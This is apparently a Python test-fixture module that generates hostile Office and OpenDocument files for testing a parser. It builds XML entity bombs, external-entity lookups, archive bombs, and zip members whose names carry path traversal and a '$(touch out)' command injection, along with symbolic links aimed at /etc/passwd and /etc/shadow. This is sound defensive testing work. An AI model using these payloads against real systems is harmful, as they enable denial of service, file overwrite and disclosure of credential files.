"""Office documents that are bombs of XML or of archives, in every type that we write."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from typing import Final

from tests.hostile import office_packages as office
from tests.hostile.hostile_file import (
    EXTENSIONS,
    ODS,
    ODT,
    SHEET,
    SLIDES,
    WORD,
    HostileFile,
    Lure,
)

_TYPES: Final = (WORD, SHEET, SLIDES, ODT, ODS)
_MAIN: Final = {
    WORD: "word/document.xml",
    SHEET: "xl/worksheets/sheet1.xml",
    SLIDES: "ppt/slides/slide1.xml",
}


def files(lure: Lure) -> Iterator[HostileFile]:
    """Yield bombs of XML and of archives in each type."""
    prologues: dict[str, Callable[[], bytes]] = {
        "laughs": lambda: _laughs(10, 10),
        "quadratic": lambda: f'<!DOCTYPE x [<!ENTITY e1 "{"x" * 500_000}">]>'.encode(),
        "external-file": lambda: _external(lure.places("txt")["file"]),
        "external-web": lambda: _external(lure.places("txt")["web"]),
        "parameter": lambda: _parameter(lure.places("txt")["web"]),
        "behind-a-comment": lambda: b"<!--" + b"x" * 300_000 + b"-->" + _laughs(10, 10),
    }
    for media_type in _TYPES:
        extension = EXTENSIONS[media_type]
        for name, prologue in prologues.items():
            make = partial(_with_prologue, media_type, prologue)
            yield HostileFile("Office: XML bombs", f"{name}{extension}", media_type, make)
        for name, change in _ARCHIVES.items():
            make = partial(_rewritten, media_type, change)
            yield HostileFile("Office: archive bombs", f"{name}{extension}", media_type, make)


def plain(media_type: str) -> bytes:
    """Return an honest document of a type."""
    match media_type:
        case _ if media_type == WORD:
            return office.word(office.paragraph())
        case _ if media_type == SHEET:
            return office.sheet(office.formulas("1+1"))
        case _ if media_type == SLIDES:
            return office.slides("")
        case _ if media_type == ODT:
            return office.open_document(ODT, "<text:p>words</text:p>")
        case _ if media_type == ODS:
            return office.open_document(ODS, office.calc_table())
    return office.open_document(media_type, office.page(""))


def _laughs(steps: int, each: int) -> bytes:
    declared = "".join(
        f'<!ENTITY e{number} "{f"&e{number - 1};" * each}">' for number in range(1, steps)
    )
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{declared}]>'.encode()


def _external(url: str) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY e1 SYSTEM "{url}">]>'.encode()


def _parameter(url: str) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p; <!ENTITY e1 "x">]>'.encode()


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _with_prologue(media_type: str, prologue: Callable[[], bytes]) -> bytes:
    members = _members(plain(media_type))
    main = _MAIN.get(media_type, "content.xml")
    members[main] = prologue() + members[main].replace(b"words", b"words &e1;" * 20)
    return office.zipped(members)


def _rewritten(media_type: str, change: Callable[[dict[str, bytes]], bytes]) -> bytes:
    return change(_members(plain(media_type)))


def _main_of(members: dict[str, bytes]) -> str:
    return next(name for name in (*_MAIN.values(), "content.xml") if name in members)


def _flood_of_words(members: dict[str, bytes]) -> bytes:
    main = _main_of(members)
    members[main] = members[main].replace(b"words", b"w" * 210_000_000)
    return office.zipped(members)


def _flood_beside(members: dict[str, bytes]) -> bytes:
    return office.zipped(members | {"media/flood.png": bytes(300_000_000)})


def _spaces(members: dict[str, bytes]) -> bytes:
    main = _main_of(members)
    return office.zipped(members | {main: members[main] + b" " * 190_000_000})


def _deep(members: dict[str, bytes]) -> bytes:
    main = _main_of(members)
    deep = b"<x>" * 300_000 + b"</x>" * 300_000
    end = members[main].rindex(b"</")
    members[main] = members[main][:end] + deep + members[main][end:]
    return office.zipped(members)


def _attributes(members: dict[str, bytes]) -> bytes:
    main = _main_of(members)
    many = b"<x " + b" ".join(b'a%d=""' % number for number in range(300_000)) + b"/>"
    end = members[main].rindex(b"</")
    members[main] = members[main][:end] + many + members[main][end:]
    return office.zipped(members)


def _many_members(members: dict[str, bytes]) -> bytes:
    return office.zipped(members | {f"x/{number}": b"" for number in range(21_000)})


def _names(members: dict[str, bytes]) -> bytes:
    odd = (
        "../../../../tmp/out",
        "/tmp/out",
        "$(touch out)",
        "a\\..\\..\\out",
        "-rf",
        "\u202efdp.x",
    )
    return office.zipped(members | dict.fromkeys(odd, b"<x/>"))


def _links(members: dict[str, bytes]) -> bytes:
    """Members that are symbolic links, as Unix archives mark them."""
    buffer = io.BytesIO(office.zipped(members))
    with zipfile.ZipFile(buffer, "a") as archive:
        for target in ("/etc/passwd", "../../../../etc/shadow"):
            info = zipfile.ZipInfo(f"media/{target.count('/')}.png")
            info.create_system, info.external_attr = 3, 0o120777 << 16
            archive.writestr(info, target)
    return buffer.getvalue()


def _lying_sizes(members: dict[str, bytes]) -> bytes:
    """The directory says that the main part has ten bytes."""
    content = bytearray(office.zipped(members))
    name = _main_of(members).encode()
    at = content.rindex(name) - 46
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content)


def _twice(members: dict[str, bytes]) -> bytes:
    """The main part twice: which one is it?"""
    main = _main_of(members)
    buffer = io.BytesIO(office.zipped(members))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.getinfo(main)
        archive.NameToInfo.pop(main)
        archive.writestr(main, members[main].replace(b"words", b"other"))
    return buffer.getvalue()


_ARCHIVES: Final = {
    "flood-of-words": _flood_of_words,
    "flood-beside": _flood_beside,
    "spaces": _spaces,
    "deep": _deep,
    "attributes": _attributes,
    "many-members": _many_members,
    "odd-names": _names,
    "links": _links,
    "lying-sizes": _lying_sizes,
    "twice": _twice,
}
